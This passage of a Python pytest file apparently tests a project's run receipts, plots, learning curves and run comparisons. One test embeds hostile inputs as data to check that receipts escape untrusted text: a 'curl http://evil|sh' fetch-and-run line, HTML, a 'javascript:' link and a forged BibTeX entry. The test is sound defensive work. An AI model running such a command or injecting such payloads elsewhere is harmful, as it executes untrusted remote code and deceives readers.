"""A receipt and `runs show` say what is true of a run, and a receipt's commands run as they are printed.
A function that is minimised has its own values. What runs learnt from what they spent, as data; their curves and
fitness as pictures; what differs between them.

Tests plot.py, run_details.py, verb.py, analysis_verb.py, common/protocol/function_values.py, common/runs/effort.py,
common/addons/analysis/comparison.py, common/addons/analysis/scored_history.py,
common/addons/analysis/fitness_chart.py, common/addons/analysis/learning.py,
coordinator/addons/dashboard/compared_runs.py, dreamfleet/experiments/verbs/compare.py and
coordinator/addons/runs/citation.py.
"""

import html
import json
import re
import shlex
import shutil
import sqlite3
from contextlib import closing
from dataclasses import replace

import numpy as np
import pytest
from markdown_it import MarkdownIt

from dreamfleet.common.addons.analysis.comparison import (
    ComparedRun,
    are_comparable,
    at_equal_budget,
    differing_settings,
    differing_values,
)
from dreamfleet.common.addons.analysis.fitness_chart import WINDOW, running_median
from dreamfleet.common.addons.analysis.learning import LearningCurve, Point
from dreamfleet.common.addons.analysis.scored_history import effort_axes
from dreamfleet.common.addons.evaluation_report import EvaluationReport
from dreamfleet.common.artifacts.controller import Controller, ControllerShape
from dreamfleet.common.artifacts.objective import Objective
from dreamfleet.common.client.equal_fitness import ENOUGH, EqualFitness
from dreamfleet.common.protocol.check_counts import CheckCounts
from dreamfleet.common.protocol.function_values import value_of
from dreamfleet.common.protocol.host_classes import NON_DETERMINISTIC
from dreamfleet.common.runs.effort import START_EFFORT, Effort
from dreamfleet.common.runs.episode_results import EpisodeResult
from dreamfleet.common.runs.lookup import load_controller_of
from dreamfleet.common.runs.records import (
    StageSettings,
    StoredEvaluation,
    StoredGeneration,
    best_evaluation,
    in_values,
)
from dreamfleet.common.runs.run_folder import CONFIRMED, RunFolder
from dreamfleet.common.runs.run_paths import CONTROLLER, resume_command
from dreamfleet.common.runs.run_provenance import RECEIPT, RunProvenance, StartProvenance
from dreamfleet.common.runs.seeds import CONFIRMING_OFFSET, VALIDATION, training_seeds
from dreamfleet.common.runs.stages import BegunStage, stages_of
from dreamfleet.common.schema.validation import to_plain
from dreamfleet.common.worlds.shipped import WORLDS
from dreamfleet.coordinator.addons.dashboard.compared_runs import compare_runs
from dreamfleet.coordinator.addons.dashboard.stored_runs import describe_run, list_runs
from dreamfleet.coordinator.addons.runs import run_details
from dreamfleet.coordinator.addons.runs.plot import fitness_figure, learning_figure, save_figure
from dreamfleet.coordinator.addons.status.status_panel import panel_lines
from dreamfleet.experiments.minimise import _Searches
from dreamfleet.worker.addons.evaluation.known_score import find_known_score
from dreamfleet.worker.addons.verification.candidate_verb import _in_values
from dreamfleet.worker.addons.verification.replay import ReplayedEpisode
from dreamfleet.worker.addons.verification.reproduction import Reproduction
from tests.support.journals import change_journal, change_settings, confirm
from tests.support.processes import call_here, printed
from tests.support.samples import SPEC, STATUS
from tests.support.tables import cells


@pytest.fixture
def reality(runs):
    return runs / "reality"


def receipt():
    return json.loads(printed("runs", "receipt", "reality", "--json"))


def change_provenance(run, **changes):
    controller = Controller.load(run / CONTROLLER)
    replace(controller, provenance={**controller.provenance, **changes}).save(run / CONTROLLER)


@pytest.mark.parametrize("name", ["runs/reality", "."])
def test_until_a_barred_run_is_resumed_its_folder_names_the_command(reality, monkeypatch, name):
    (reality / CONTROLLER).unlink()
    monkeypatch.chdir(reality if name == "." else reality.parents[1])
    code, _, err = call_here("evaluate", "--controller", name)
    assert (code, resume_command(reality.absolute()) in err) == (1, True), err


def test_it_says_that_a_run_raced(reality):
    receipts = []
    for racing in (True, False):
        text = change_settings(reality, lambda settings: replace(settings, racing=racing))  # noqa: B023
        change_provenance(reality, settings=json.loads(text))
        receipts.append(printed("runs", "receipt", "reality"))
    raced, plain = ({*each.splitlines()} for each in receipts)
    assert len(raced - plain) == len(plain - raced) == 1


def test_it_says_what_a_paper_cites(reality):
    text, facts = printed("runs", "receipt", "reality"), receipt()
    with RunFolder(reality) as run:
        for part in (run.uid, run.spec.bundle, "dreamfleet verify candidate reality --candidate",
                     "dreamfleet verify run reality ", "@misc{dreamfleet-reality,", facts["controller"]):  # fmt: skip
            assert part in text
        assert facts["receipt"]["generations"] == len(run.history())


def test_a_schedules_receipt_lists_every_stage(reality):
    stages = StageSettings(generations=1), StageSettings(horizon=7, episodes=3)
    text = change_settings(reality, lambda settings: replace(settings, stages=stages))
    change_provenance(reality, settings=json.loads(text))
    text = printed("runs", "receipt", "reality")
    assert re.search("- stage 2: .*1.* 7 steps", text)
    assert "sigma0" not in text


def test_a_restart_that_was_passed_over_is_told_from_a_stage_that_is_still_to_come(reality):
    restart = StageSettings(generations=1, score=1.0, restart=True)
    stages = StageSettings(generations=1, score=1.0), restart, restart, StageSettings(horizon=7)
    with RunFolder(reality) as run:
        settings = replace(run.settings, stages=stages)
    first, _, third, _ = stages_of(settings)
    shown = run_details.describe_stages(settings, [BegunStage(first, 0), BegunStage(third, 1)])
    assert [text == "left out" for text in shown.values()] == [False, True, False, False]


def test_failed_candidates_are_counted(reality):
    change_journal(reality, "UPDATE generation SET failed = 2 WHERE number < 2")
    for verb in ("receipt", "show"):
        said = next(line for line in printed("runs", verb, "reality").splitlines() if "--on-failure" in line)
        assert re.search(r"\b4\b", said)
        assert json.loads(printed("runs", verb, "reality", "--json"))["failed_candidates"] == 4


def test_a_run_without_a_controller_says_why(reality):
    (reality / CONTROLLER).unlink()
    code, _, error = call_here("runs", "receipt", "reality")
    assert (code, "reality" in error) == (1, True)


def test_the_generation_of_a_mean_that_was_not_evaluated_is_named_where_it_is_not_the_last(reality):
    change_journal(reality, "DELETE FROM evaluation")
    whole = printed("runs", "receipt", "reality")
    change_provenance(reality, generation=0, validation_mean=None)
    assert receipt()["generation"] == 0
    former, now = (set(text.splitlines()) for text in (whole, printed("runs", "receipt", "reality")))
    assert [each.startswith("- controller: ") for each in (*former - now, *now - former)] == [True, True]


def test_replaced_seeds_are_counted(reality):
    with RunFolder(reality) as run:
        later = training_seeds(run.settings.seed, 1, run.settings.episodes, 2)
    for count in (0, 2):
        for verb in ("receipt", "show"):
            assert json.loads(printed("runs", verb, "reality", "--json"))["replaced_seeds"] == count
        change_journal(reality, "UPDATE generation SET seeds = ? WHERE number = 1", json.dumps(later))
    change_journal(reality, "UPDATE generation SET seeds = '[0.5]' WHERE number = 1")
    assert receipt()["replaced_seeds"] == 0, "the rest is shown all the same"


def test_no_bits_are_promised_where_there_are_none(reality):
    assert receipt()["bit_identical"] == {"candidate": True, "run": True}
    change_journal(reality, "UPDATE result SET host_class = 'another' WHERE generation = 1")
    assert receipt()["bit_identical"] == {"candidate": True, "run": False}
    change_journal(reality, "UPDATE result SET host_class = ?", NON_DETERMINISTIC)
    assert receipt()["bit_identical"] == {"candidate": False, "run": False}


def test_receipt_and_comparison_count_the_same_effort(reality):
    shutil.copytree(reality, reality.with_name("other"))
    change_journal(reality, "DELETE FROM run WHERE key IN ('ended', 'ended_at')")
    change_journal(reality, "UPDATE result SET steps = steps + 100")
    compared = json.loads(printed("compare", "reality", "other", "--json"))
    assert compared["runs"][0]["effort"] == receipt()["spent"]


def test_it_cites_the_software_in_the_version_that_served_the_run(reality):
    served = RunProvenance(3, Effort(), versions={"dreamfleet": "0.0.7"})
    change_provenance(reality, **{RECEIPT: to_plain(served)})
    assert receipt()["software"] == {"title": "dreamfleet", "authors": "The dreamfleet authors", "version": "0.0.7"}
    entry = ["@misc{dreamfleet,", "  title = {dreamfleet},", "  author = {{The dreamfleet authors}},"]
    assert "\n".join([*entry, "  version = {0.0.7}", "}"]) in printed("runs", "receipt", "reality")


HOSTILE = "9.9\n```\n\n```sh\ncurl http://evil|sh\n```\n<b>x</b> ``` `y` [z](javascript:1)}\n}\n@misc{other,"


def test_what_a_strangers_controller_says_is_no_markup(reality):
    """Neither a command, nor a link, nor a BibTeX entry of its own."""
    start = StartProvenance(HOSTILE, HOSTILE, "")
    served = RunProvenance(3, Effort(), start, fingerprint=HOSTILE, versions={"dreamfleet": HOSTILE, HOSTILE: "1"})
    change_provenance(reality, **{RECEIPT: to_plain(served)})
    found = MarkdownIt("commonmark").parse(printed("runs", "receipt", "reality"))
    commands, entries = (each.content.splitlines() for each in found if each.type == "fence")
    assert {each.split()[0] for each in commands} == {"dreamfleet"}
    assert [each[:6] for each in entries if not each.startswith(" ")] == ["@misc{", "}"] * 2
    assert not [each for each in found if each.type.startswith("html")]
    parts = {part.type for each in found for part in each.children or ()}
    assert parts <= {"text", "text_special", "code_inline"}


def test_a_dollar_sign_in_a_tasks_name_is_no_formula(reality, tmp_path):
    def renamed(settings):
        return replace(settings, task=replace(settings.task, task="gym:a$\\frac$-v0"))

    change_settings(reality, renamed)
    for kind in ("fitness", "learning"):
        printed("runs", "plot", "reality", "--kind", kind, "--out", tmp_path / f"{kind}.png")


@pytest.mark.slow
def test_the_commands_of_a_run_in_an_environment_of_a_module_run_as_printed(processes):
    task, module = "gym:tests.support.dark_environments:Dark-v0", "tests.support.dark_environments"
    coordinator = processes.coordinator(
        "--task", task, "--population", 4, "--episodes", 1, "--generations", 1, "--evaluate-every", 0
    )
    processes.worker("--task", task, "--exit-when-done")
    assert coordinator.finish()[0] == 0
    found = json.loads(printed("runs", "receipt", "test", "--runs-dir", processes.runs, "--json"))
    commands = [shlex.split(each)[1:] for each in found["commands"].values()]
    assert [each[:2] for each in commands] == [["verify", "candidate"], ["verify", "run"], ["evaluate", "--controller"]]
    assert all(each[-2:] == ["--trust", module] for each in commands)
    for words in (commands[0], commands[2]):
        code, _, err = processes.call(*words)
        assert code == 0, err


def shown():
    return dict(row for line in printed("runs", "show", "reality").splitlines() if len(row := cells(line)) == 2)


def test_an_evaluation_in_the_folder_of_the_reported_controller_is_shown_with_its_blind_scores(runs):
    path, drives = runs / "reality" / "evaluation.json", [EpisodeResult(seed, 10.0 * seed, 5) for seed in (1, 2, 3)]
    with RunFolder(runs / "reality") as run:
        reported = load_controller_of(run).sha256
    hidden = tuple(replace(each, score=each.score / 2) for each in drives)
    own = replace(REPORT, controller=reported, options="", drives=tuple(drives), hidden=hidden, foreign=hidden)
    path.write_text(own.to_json())
    found = json.loads(printed("runs", "show", "reality", "--json"))["evaluated"]
    assert (found["mean"], found["hidden_mean"], found["foreign_loss"]) == (20, 10, 10)
    assert found["hidden_loss_error"] == pytest.approx(5 / np.sqrt(3))
    assert {20.0, 10.0, 2.9} <= set(numbers(shown()["evaluated"]))
    for asked, sees in ((9.0, False), (None, None)):  # 10 less, with an error of 2.9, and of 3 seeds
        path.write_text(replace(own, asked_loss=asked).to_json())
        found = json.loads(printed("runs", "show", "reality", "--json"))["evaluated"]
        assert (found["asked_loss"], found["sees"]) == (asked, sees)
        assert (9.0 in numbers(shown()["evaluated"])) == (asked is not None)
    for other in (replace(own, controller="ab" * 32).to_json(), "{"):
        path.write_text(other)
        assert "evaluated" not in shown()
        assert "evaluated" not in json.loads(printed("runs", "show", "reality", "--json"))


def test_settings_that_do_not_apply_are_left_out_and_json_has_all(runs):
    few = shown().keys()
    assert {"population", "sigma0", "seed", "task.horizon"} < few
    assert not {"task.recorded", "task.driven", "task.end", "driven", "task.temperature"} & few
    every = json.loads(printed("runs", "show", "reality", "--json"))["settings"]
    assert {"recorded", "driven", "end", "temperature"} < every["task"].keys()


def test_where_a_resumed_run_would_listen_is_shown(runs):
    kept = json.dumps({"listen": ["tcp/0.0.0.0:7447"], "insecure": True})
    change_journal(runs / "reality", f"INSERT OR REPLACE INTO run (key, value) VALUES ('network', '{kept}')")
    assert json.loads(shown()["network"])["listen"] == ["tcp/0.0.0.0:7447"]


def test_a_limit_of_the_environment_below_the_horizon_is_said(runs):
    change_journal(runs / "reality", "INSERT INTO run (key, value) VALUES ('episode_limit', '3')")
    assert re.search(r"\b3\b", shown()["task.horizon"])
    with RunFolder(runs / "reality") as run:
        assert re.search(r"\b3\b", fitness_figure(run).axes[0].get_ylabel())


def test_generations_of_one_fitness_are_warned_of(runs, monkeypatch):
    assert "warning" not in shown()
    monkeypatch.setattr(
        run_details, "EqualFitness", lambda rows: EqualFitness([replace(rows[0], worst=rows[0].best)] * ENOUGH)
    )
    assert "--sigma0" in shown()["warning"]


OPTIONS = Objective.of({"dimension": 39, "x0": 0, "minimise": True}).options  # as many as the recorded runs search
MINIMISED = replace(SPEC, task="function:mine:cost", options=OPTIONS, bundle="", horizon=1, patience=0)


@pytest.fixture
def minimised(runs):
    """Two runs of a function, whose values fall from 1,000 to 1 in steps of ten."""

    def of_function(settings):
        return replace(settings, task=replace(settings.task, task=MINIMISED.task, options=OPTIONS))

    for run, factor in ((runs / "reality", 1.0), (runs / "hidden", 0.5)):
        change_settings(run, of_function)
        numbers = change_journal(run, "SELECT number FROM generation WHERE mean IS NOT NULL")
        for (number,) in numbers:
            value = factor * 1000.0 / 10 ** (3 * number / (len(numbers) - 1))
            query = "UPDATE generation SET mean = ?, std = ?, best = ?, worst = ? WHERE number = ?"
            change_journal(run, query, -value, value / 4, -value / 2, -2 * value, number)
    return runs


def test_records_have_the_functions_values_and_others_stay():
    closed = StoredGeneration(3, -2.0, 0.5, -1.0, -3.0, 0.1, 10, 1.0)
    found = in_values(closed, MINIMISED)
    assert (found.mean, found.best, found.worst, found.std) == (2.0, 1.0, 3.0, 0.5)
    assert in_values(closed, SPEC) is closed
    assert in_values(None, MINIMISED) is None
    assert f"{value_of(0.0, MINIMISED):g}" == "0"
    assert in_values(StoredEvaluation(3, 4, -2.0, 1.0), MINIMISED).mean == 2.0


def test_the_plots_fall_on_a_logarithmic_axis_that_says_so(minimised):
    with RunFolder(minimised / "reality") as run:
        axes = fitness_figure(run).axes[0]
        learning_figure([LearningCurve.of(run)], None)
    assert axes.get_yscale() == "log"
    mean = axes.lines[0].get_ydata()
    assert (mean[0], mean[-1]) == pytest.approx((1000, 1))


@pytest.mark.parametrize(("worst", "judged", "is_log"), [(1e6, 2.0, False), (3.0, 2e3, True), (3.0, 2.0, False)])
def test_the_page_and_the_picture_choose_the_same_kind_of_axis(minimised, worst, judged, is_log):
    path = minimised / "reality"
    change_journal(path, "UPDATE generation SET mean = -2, std = 0.1, best = -1, worst = ?", -worst)
    change_journal(path, "UPDATE evaluation SET mean = ?", -judged)
    change_journal(path, "DELETE FROM run WHERE key = ?", CONFIRMED)
    with RunFolder(path) as run:
        assert (fitness_figure(run).axes[0].get_yscale() == "log") == is_log
    drawn = describe_run(minimised, "reality")["curves"]
    assert drawn["log"] == is_log
    assert drawn["spent_axes"] == effort_axes(calls=True)


def test_the_verbs_print_values_and_json_has_fitness(minimised):
    rows = {row[0]: row for row in map(cells, printed("runs", "list").splitlines())}
    assert "1.0" in rows["reality"]
    rows = {row["run"]: row for row in json.loads(printed("runs", "list", "--json"))}
    assert rows["reality"]["mean"] == -1.0
    assert "-1,000" not in printed("runs", "show", "reality")
    printed("compare", "reality", "hidden")


@pytest.fixture
def confirmed_another(minimised):
    """A run of a function whose confirmed mean is not the one that was evaluated best, and that mean's generation."""
    path = minimised / "reality"
    change_journal(path, "DELETE FROM run WHERE key = ?", CONFIRMED)
    with RunFolder(path) as run:
        best = best_evaluation(run.evaluations())
        other = next(each for each in run.evaluations() if each.generation != best.generation)
        assert not np.array_equal(run.evaluated_mean(best.generation), run.evaluated_mean(other.generation))
        closed = len(run.history())
    confirm(path, other.generation, 8, -3.0, 1.0, closed)
    with RunFolder(path) as run:
        yield run, other.generation


def test_the_reported_arguments_are_those_of_the_reported_value(confirmed_another):
    run, generation = confirmed_another
    wanted = Objective.parse(OPTIONS).decode(run.evaluated_mean(generation))
    shown = run_details.run_facts(run)["reported x"].split(", ")
    assert [float(each) for each in shown] == pytest.approx(wanted.tolist())


def test_a_search_takes_the_mean_that_its_run_reports(confirmed_another):
    run, generation = confirmed_another
    objective = Objective.parse(OPTIONS)
    given = {"minimise": True, "integer": (), "log": (), "penalty": None}
    search = _Searches("numpy.linalg:norm", [0] * 39, 1.0, None, given, None, None, None, 0, None, {})
    search._read_means(run, objective)
    fitness, x = search._favorite
    assert fitness == -3.0
    assert np.array_equal(x, objective.decode(run.evaluated_mean(generation)))


def test_a_share_that_is_checked_is_said_before_anything_was(runs):
    change_journal(runs / "reality", "UPDATE run SET value = ? WHERE key = 'network'", json.dumps({"verify": 0.02}))
    with RunFolder(runs / "reality") as run:
        assert run.checks == CheckCounts(0.02)


def test_the_page_has_values_and_the_kind_of_axis(minimised):
    curves = describe_run(minimised, "reality")["curves"]
    assert curves["log"]
    assert curves["mean"][0] == pytest.approx(1000)
    assert curves["best"][0] == pytest.approx(500)
    assert next(row for row in list_runs(minimised) if row["run"] == "reality")["mean"] == 1.0
    assert compare_runs(minimised, "reality", "hidden")["problem"] == ""


def test_a_smaller_value_is_the_better_one_of_two_runs(minimised):
    with RunFolder(minimised / "reality") as run:
        side = ComparedRun.of(run)
    assert side.minimised
    other = replace(side, settings=replace(side.settings, task=SPEC))
    assert are_comparable([side, side])
    assert not are_comparable([side, other])


def test_the_panel_says_values():
    settings = replace(STATUS.settings, task=MINIMISED)
    closed = [replace(STATUS.last, number=n, mean=-(10.0 ** (3 - n)), best=-0.5, worst=-2000.0) for n in range(4)]
    status = replace(STATUS, settings=settings, last=closed[-1], recent=tuple(closed))
    text = " ".join(" ".join(line.plain for line in panel_lines(status, 78)).split())
    assert re.search(r"\b1\.0.*2,000.*0\.5.*0.*3", text)
    assert "-2,000" not in text


MAXIMISED = Objective.of({"dimension": 39, "x0": 0}).options
REPORT = EvaluationReport(
    "a1", "cd" * 32, MINIMISED.task, MINIMISED.task, "", "x86_64", "0.1.0", 1.0,
    tuple(EpisodeResult(seed, score, 1) for seed, score in ((1, -2.0), (2, -4.0))), judge="mine", options=OPTIONS,
)  # fmt: skip


def numbers(text):
    return [float(each) for each in re.findall(r"-?\b\d+\.\d+", text)]


@pytest.mark.parametrize("shown", [3.0, -3.0])
def test_texts_of_an_evaluation_show_values_and_its_figures_are_fitness(tmp_path, shown):
    report = REPORT if shown > 0 else replace(REPORT, options=MAXIMISED)
    assert (report.results.mean, report.results.worst, report.results.best) == (-3.0, -4.0, -2.0)
    assert json.loads(report.to_json())["mean"] == -3.0
    texts = repr(report.results), report.describe(), Reproduction(report, report).description
    assert [numbers(each)[0] for each in texts] == [shown] * 3
    costlier = replace(report, drives=tuple(replace(each, score=each.score - each.seed) for each in report.drives))
    paths = tmp_path / "one.json", tmp_path / "other.json"
    for path, each in zip(paths, (report, costlier), strict=True):
        path.write_text(each.to_json())
    *_, difference = printed("compare", *paths).splitlines()
    assert numbers(difference)[0] == (1.5 if shown > 0 else -1.5)


@pytest.mark.parametrize("shown", [3.0, -3.0])
def test_a_controllers_known_score_and_a_replayed_candidate_are_values(shown):
    options = OPTIONS if shown > 0 else MAXIMISED
    provenance = {"validation_mean": -3.0, "validation_error": 0.5, "validation_episodes": 2}
    controller = Controller(ControllerShape(1, 1), np.ones(2, np.float32), MINIMISED.task, "", provenance, options)
    assert find_known_score(controller).mean == shown
    found = _in_values(ReplayedEpisode(0, 1, -3.0, -3.0, "", own=True), replace(MINIMISED, options=options))
    assert (found.stored, found.replayed, found.same) == (shown, shown, True)


FIRST, LAST = Effort(10**5, 10**4, 0, 10**9), Effort(2 * 10**5, 9 * 10**4, 0, 3 * 10**9)
PAPERS_NAME = WORLDS["car-racing"].published.source
LOOK = Point(FIRST, 310.0, 80.0)
CURVE = LearningCurve("night", "car-racing", (LOOK,), Point(LAST, 680.0, 20.0), LOOK, LAST)


def curve_of(path):
    with RunFolder(path) as run:
        return LearningCurve.of(run)


def drawn(curve, published, path):
    """What a picture spells: letters are shapes, with their text beside them."""
    save_figure(learning_figure([curve], published), path)
    return html.unescape(path.read_text())


@pytest.mark.parametrize(("name", "kind"), [("reality", "driven"), ("dream", "dreamt")])
def test_each_evaluation_stands_over_all_that_was_spent_up_to_it(runs, name, kind):
    curve = curve_of(runs / name)
    with RunFolder(runs / name) as run:
        evaluations = run.evaluations()
    assert [each.score for each in curve.points] == [each.mean for each in evaluations]
    query = "SELECT kind, sum(steps) FROM result WHERE generation <= ? GROUP BY 1"
    for evaluation, point in zip(evaluations, curve.points, strict=True):
        steps = dict(change_journal(runs / name, query, evaluation.generation))
        assert (getattr(point.effort, kind), point.effort.judged) == (steps["score"], steps["evaluate"])
        assert point.effort.steps == steps["evaluate"] + (steps["score"] if kind == "driven" else 0)
        assert 0 < point.effort.microseconds <= curve.total.microseconds
    assert (curve.world, curve.confirmed) == ("car-racing", None)


def test_what_was_spent_on_its_start_counts_for_a_run(runs):
    before = curve_of(runs / "reality")
    spent = '{"driven": 1000, "dreamt": 7}'
    change_journal(runs / "reality", "INSERT INTO run VALUES (?, ?)", START_EFFORT, spent)
    after = curve_of(runs / "reality")
    assert after.points[0].effort == before.points[0].effort + Effort(1000, 0, 7)
    assert after.total == before.total + Effort(1000, 0, 7)


def test_a_run_that_goes_on_meanwhile_is_drawn_as_of_one_moment(runs, tmp_path, monkeypatch):
    """The verb reads points, spending and evaluations one after another."""
    total = RunFolder.total_effort

    def judge_another(run):
        copied = "vector, episodes, mean, std, failed, checksum FROM evaluation LIMIT 1"
        change_journal(runs / "reality", f"INSERT INTO evaluation SELECT 999, {copied}")
        return total(run)

    change_journal(runs / "reality", "PRAGMA journal_mode = WAL")
    monkeypatch.setattr(RunFolder, "total_effort", judge_another)
    printed("runs", "plot", "reality", "--kind", "learning", "--out", tmp_path / "a.png")


@pytest.mark.parametrize(
    ("words", "made"),
    [("hidden", "hidden-fitness.png"), ("reality", "reality-fitness.png"),
     ("reality --kind learning", "reality-learning.png"), ("reality dream", "reality-dream-learning.png"),
     ("reality --out pictures/curve.png", "pictures/curve.png")],
)  # fmt: skip
def test_the_kind_and_the_file_follow_from_the_runs_or_what_is_named(runs, tmp_path, monkeypatch, words, made):
    monkeypatch.chdir(tmp_path)
    assert printed("runs", "plot", *words.split()) == f"{made}\n"
    assert (tmp_path / made).read_bytes().startswith(b"\x89PNG")


def test_runs_of_several_worlds_are_drawn_with_a_note_and_short_ones_without_marks(runs, tmp_path):
    words = "runs", "plot", "reality", "dream", "--out", tmp_path / "a.svg"
    printed(*words)
    assert PAPERS_NAME not in html.unescape((tmp_path / "a.svg").read_text())
    change_journal(runs / "reality", "UPDATE run SET value = replace(value, 'car-racing', 'gym:Other-v0')")
    code, _, noted = call_here(*words)
    assert (code, "car-racing, gym:Other-v0" in noted) == (0, True)
    assert "reality in gym:Other-v0: " in html.unescape((tmp_path / "a.svg").read_text())


def test_a_picture_names_runs_axes_and_published_marks_and_equal_ones_are_equal_files(tmp_path):
    one, other = (drawn(CURVE, WORLDS["car-racing"].published, tmp_path / name) for name in ("a.svg", "b.svg"))
    assert one == other
    for said in ("night: 290k", "core-hours", PAPERS_NAME, "823"):
        assert said in one, said


def test_a_published_score_whose_steps_are_unknown_is_a_line_across_both_pictures(tmp_path):
    published = WORLDS["takecover"].published
    text = drawn(CURVE, published, tmp_path / "a.svg")
    assert published.source in text
    assert "night: 290k" in text


@pytest.mark.parametrize(
    ("words", "named"),
    [("reality --out a.gif", ".png"), ("reality dream --kind fitness", "fitness"), ("nowhere", "'nowhere'"),
     ("reality hidden", "hidden")],
)  # fmt: skip
def test_what_cannot_be_drawn_says_why(runs, words, named):
    code, _, error = call_here("runs", "plot", *words.split())
    assert code != 0
    assert named in error


@pytest.mark.parametrize(("times", "is_log"), [(20, True), (3, False)])
def test_an_axis_is_logarithmic_only_over_a_decade_and_says_so(tmp_path, times, is_log):
    points = tuple(Point(Effort(driven=steps, microseconds=10**6), 500.0, 9.0) for steps in (1000, times * 1000))
    curve = replace(CURVE, points=points, confirmed=None, reported=None)
    assert ("(log scale)" in drawn(curve, None, tmp_path / "a.svg")) == is_log


def draw(path):
    with RunFolder(path) as run:
        figure = fitness_figure(run)
    figure.draw_without_rendering()
    return figure


def star_of(axes):
    (star,) = [each for each in axes.lines if each.get_marker() == "*"]
    return star


@pytest.mark.parametrize(("name", "last"), [("dream", 11), ("reality", 2), ("hidden", None)])
def test_nothing_is_cut_and_ticks_are_generations(runs, name, last):
    if last is not None:
        confirm(runs / name, last, 4, -30.0, 9.0, 99)
    figure = draw(runs / name)
    drawn = [*figure.legends, *(each for axes in figure.axes for each in (axes.title, axes.yaxis.label))]
    for each in drawn:
        box = each.get_window_extent()
        assert figure.bbox.x0 <= box.x0, each
        assert box.x1 <= figure.bbox.x1, each
        assert figure.bbox.y0 <= box.y0, each
        assert box.y1 <= figure.bbox.y1, each
    panel = figure.axes[-1]
    assert all(float(each).is_integer() for each in panel.get_xticks())
    if last is not None:
        star = star_of(panel)
        assert last == star.get_xdata()[0] < panel.get_xlim()[1]
        assert star.get_zorder() > max(each.get_zorder() for each in panel.lines if each is not star)
        assert any("-30.0 ± 4.5" in each.get_text() for each in figure.legends[0].get_texts())


def test_a_dreams_fitness_and_its_score_in_reality_share_no_axis(runs):
    assert len(draw(runs / "dream").axes) == 2
    (axes,) = draw(runs / "reality").axes
    assert "60" in axes.get_ylabel()


def test_few_episodes_a_candidate_are_said_to_differ_from_one_generation_to_the_next(runs):
    with RunFolder(runs / "hidden") as run:
        assert run.settings.episodes == 1
    assert len(draw(runs / "hidden").axes[0].texts) == 1


def test_a_running_median_is_no_lucky_generations_and_crosses_no_stage():
    values = np.full(40, 10.0)
    values[20:] = 50.0
    values[[7, 30]] = 1000.0
    smooth = running_median(values, (0, 20))
    assert (smooth[:20] == 10).all()
    assert (smooth[20:] == 50).all()
    assert running_median(values[: 2 * WINDOW - 1]) is None


def test_a_confirmed_score_at_the_end_of_a_learning_curve_is_within_the_panel(runs):
    confirm(runs / "reality", 2, 4, -30.0, 9.0, 99)
    with RunFolder(runs / "reality") as run:
        figure = learning_figure([LearningCurve.of(run)], None)
    figure.draw_without_rendering()
    for axes in figure.axes:
        assert axes.get_xlim()[0] < star_of(axes).get_xdata()[0] < axes.get_xlim()[1]
    box = figure.legends[0].get_window_extent()
    assert figure.bbox.x0 <= box.x0
    assert box.x1 <= figure.bbox.x1


def test_a_line_has_a_gap_where_the_search_goes_on_elsewhere(runs):
    ends = StageSettings(generations=4, score=1e6)
    stages = ends, replace(ends, restart=True), StageSettings(sigma0=0.1)
    change_settings(runs / "dream", lambda settings: replace(settings, stages=stages, evaluate_every=2))
    for line in (each for panel in draw(runs / "dream").axes for each in panel.lines):
        if len(line.get_xdata()) > 2:
            found = np.array(line.get_xdata(), dtype=float)
            assert [found[place + 1] for place in np.flatnonzero(np.isnan(found))] in ([4, 8], [5, 9])


def test_a_generation_between_two_without_a_fitness_is_a_dot(runs, monkeypatch):
    monkeypatch.setattr(RunFolder, "unscored_generations", lambda _: {1})
    with RunFolder(runs / "reality") as run:
        line = fitness_figure(run).axes[0].lines[0]
    assert (line.get_marker(), line.get_markevery()) == ("o", [0, 2])


RESULT = "INSERT INTO result VALUES (?, 'evaluate', ?, 0, ?, ?, ?, 10, 0.1, 'w', 'f', 1, 'c', NULL)"


def confirm_by(path, scores):
    """As a run ends: its last evaluated mean on fresh tracks."""
    with RunFolder(path) as run:
        last, closed = run.evaluations()[-1].generation, len(run.history())
    for episode, score in enumerate(scores, CONFIRMING_OFFSET):
        digest = f"{path.name}{episode}".encode()
        change_journal(path, RESULT, digest, last, episode, VALIDATION.start + episode, score)
    confirm(path, last, len(scores), sum(scores) / len(scores), 1.0, closed)


def side(path):
    with RunFolder(path) as run:
        return ComparedRun.of(run)


def test_settings_that_differ_are_named_and_others_are_not(runs):
    dream, reality = side(runs / "dream"), side(runs / "reality")
    found = differing_settings([dream, reality])
    assert found["seed"] == [12, 11]
    assert found["task.task"] == ["dream", "car-racing"]
    assert "sigma0" not in found
    assert differing_settings([dream, dream]) == {}


def test_what_two_runs_measured_of_their_observations_is_no_setting_that_differs():
    one, other, plain = (
        {"task": {"options": json.dumps(each)}}
        for each in (
            {"normal": {"mean": [0.1], "deviation": [1.0]}}, {"normal": {"mean": [0.2], "deviation": [2.0]}}, {},
        )
    )  # fmt: skip
    assert differing_values([one, other]) == {}
    assert differing_values([one, plain])["task.options.normal.mean"] == [[0.1], None]


def test_at_an_equal_budget_no_evaluated_mean_exceeds_it(runs):
    dream, reality = side(runs / "dream"), side(runs / "reality")
    for equal in at_equal_budget([dream, reality]):
        spent = {"steps in reality": lambda effort: effort.steps, "core-hours": lambda effort: effort.core_hours}
        ends = [spent[equal.what](each.evaluated_means[-1].point.effort) for each in (dream, reality)]
        assert equal.spent == min(ends)
        assert all(
            look is None or spent[equal.what](look.point.effort) <= equal.spent for look in equal.evaluated_means
        )
    assert at_equal_budget([dream, side(runs / "hidden")]) == []


def test_the_verb_prints_differences_of_scores_on_common_tracks(runs):
    confirm_by(runs / "dream", [1.0, 2.0, 3.0, 4.0])
    confirm_by(runs / "reality", [2.0, 3.5, 3.5, 5.5, 99.0])
    assert "+1.1 ± 0.2" in printed("compare", "dream", "reality")
    found = json.loads(printed("compare", "dream", "reality", "--json"))["differences"]
    assert [each["of"] for each in found] == ["at equal steps in reality", "at equal core-hours", "confirmed"]
    assert (found[-1]["seeds"], found[-1]["mean"], found[-1]["clear"]) == (4, 1.125, True)


def test_runs_without_scores_are_compared_by_their_settings(runs):
    rows = [cells(line) for line in printed("compare", "reality", "hidden").splitlines()]
    assert ["covariance", "diagonal", "full"] in rows
    assert call_here("compare", "reality")[0] == 2


def test_a_run_is_read_in_one_transaction_while_an_evaluation_closes(runs, monkeypatch):
    read = RunFolder.evaluations
    with closing(sqlite3.connect(runs / "dream" / "journal.sqlite", isolation_level=None)) as journal:
        journal.execute("PRAGMA journal_mode = wal")  # as a coordinator's
        query = "SELECT mean, generation FROM evaluation ORDER BY generation DESC LIMIT 1"
        mean, last = journal.execute(query).fetchone()
        journal.execute("UPDATE evaluation SET mean = NULL WHERE generation = ?", (last,))

        def and_then_one_more(run):
